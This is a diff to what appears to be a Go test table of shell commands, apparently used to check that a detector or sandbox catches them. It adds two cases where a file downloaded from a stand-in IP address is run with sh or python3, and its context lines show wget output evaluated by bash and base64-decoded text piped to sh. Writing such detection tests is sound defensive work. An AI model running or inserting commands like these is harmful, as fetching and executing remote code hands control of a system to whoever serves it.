@@ -93,6 +93,8 @@ var ownDeeds = []deed{
 	{"Download piped into a shell", outside, "try bash -c 'eval \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/)\"'"},
 	{"Download piped into a shell", outside, "try bash -c 'source <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
 	{"Download piped into a shell", outside, "try bash -c '. <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
+	{"Download piped into a shell", anywhere, "try sh -c 'wget -qO $HERE/x http://192.0.2.1:9/; echo true >$HERE/x; sh $HERE/x'"},
+	{"Download piped into a shell", outside, "try bash -c 'cd $HERE; wget -q -t 1 http://192.0.2.1:9/y.py; python3 y.py'"},
 	{"Encoded text run by a shell", outside, "run sh -c 'echo dHJ1ZQo=|base64 -d|sh'"},
 	{"Encoded text run by a shell", outside, "run bash -c 'bash <(echo dHJ1ZQo=|base64 -d)'"},
 	{"Encoded text run by a shell", outside, "run bash -c 'bash -c \"$(echo dHJ1ZQo=|base64 -d)\"'"},
